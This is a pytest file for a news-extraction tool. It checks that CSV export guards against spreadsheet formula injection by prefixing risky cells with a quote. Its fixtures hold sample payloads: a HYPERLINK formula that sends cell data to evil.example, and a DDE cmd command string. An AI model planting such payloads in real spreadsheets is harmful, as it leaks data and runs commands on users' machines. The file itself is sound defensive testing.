"""CSV output guards against spreadsheet formula injection (OWASP): a text cell starting with
``=``, ``+``, ``-``, ``@``, tab or CR gets a ``'`` in front; JSONL keeps every value exact."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from newsextract import Article, BatchItem, Failure
from newsextract.batching.resume import done_keys
from newsextract.batching.writers import (
    FORMULA_STARTS,
    open_writer,
    spreadsheet_safe,
    undo_spreadsheet_safe,
)

TITLE = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
BODY = "+1 cmd|' /C calc'!A0 and the rest of the article"


def write(path: Path, items: list[BatchItem]) -> None:
    writer = open_writer(path)
    for item in items:
        writer.write(item)
    writer.close()


def the_items() -> list[BatchItem]:
    article = Article(
        url="https://news.example/a",
        title=TITLE,
        body=BODY,
        authors=("-A B", "@C"),
        provenance={"title": "html:h1"},
    )
    failure = Failure(
        input="@failed.html", stage="decode", error_type="NotHTMLError", message="\tmessage"
    )
    return [
        BatchItem(input="=page.html", article=article),
        BatchItem(input="@failed.html", failure=failure),
    ]


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(start: str) -> None:
    text = f"{start}SUM(A1:A9)"
    assert spreadsheet_safe(text) == "'" + text
    assert undo_spreadsheet_safe(spreadsheet_safe(text)) == text


@pytest.mark.parametrize("text", ["", "Plain title", "'Tis the season", "1-2", "a=b", "'x"])
def test_other_cells_are_written_as_they_are(text: str) -> None:
    assert spreadsheet_safe(text) == text
    assert undo_spreadsheet_safe(text) == text


def test_csv_cells_that_open_as_formulas_are_quoted(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write(path, the_items())
    ok, failed = csv_rows(path)
    assert ok["title"] == "'" + TITLE
    assert ok["body"] == "'" + BODY
    assert ok["input"] == "'=page.html"
    assert json.loads(ok["authors"]) == ["-A B", "@C"]  # JSON text starts with '['
    assert failed["message"] == "'\tmessage"
    assert failed["input"] == "'@failed.html"


def test_jsonl_keeps_every_value_exact(tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    write(path, the_items())
    ok, failed = (json.loads(line) for line in path.read_text(encoding="utf-8").splitlines())
    assert (ok["input"], ok["title"], ok["body"]) == ("=page.html", TITLE, BODY)
    assert (failed["input"], failed["message"]) == ("@failed.html", "\tmessage")


def test_resuming_a_csv_reads_the_inputs_back_without_the_quote(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write(path, the_items())
    done = done_keys(path)
    assert len(done) == 2
    assert "=page.html" in done and "@failed.html" in done
    assert "'=page.html" not in done
